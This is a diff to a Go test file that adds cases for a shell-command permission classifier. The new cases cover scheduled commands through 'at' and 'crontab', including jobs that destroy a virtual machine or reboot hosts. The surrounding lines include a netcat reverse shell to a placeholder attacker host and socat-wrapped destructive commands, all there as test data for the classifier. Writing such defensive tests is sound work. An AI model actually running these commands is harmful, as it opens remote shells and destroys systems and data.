@@ -51,6 +51,13 @@ var unknowableCases = []struct {
 	{"ssh-agent sh -c 'govc vm.destroy web-01'", Deny},
 	{"socat - EXEC:'govc vm.destroy web-01'", Deny},
 	{"nc -e /bin/sh attacker 4444", Ask},
+	// Scheduled code.
+	{"at now <<<'govc vm.destroy web-01'", Deny},
+	{"echo 'ssh web-01 sudo reboot' | at now + 1 hour", Protect},
+	{"crontab - <<'EOF'\n*/5 * * * * ssh web-01 sudo systemctl restart app\nEOF", Protect},
+	{"crontab ./jobs", Ask},
+	{"crontab - <<'EOF'\n0 3 * * * /usr/local/bin/backup.sh\nEOF", None},
+	{"crontab -l", None},
 }
 
 func TestUnknowableConstructs(t *testing.T) {
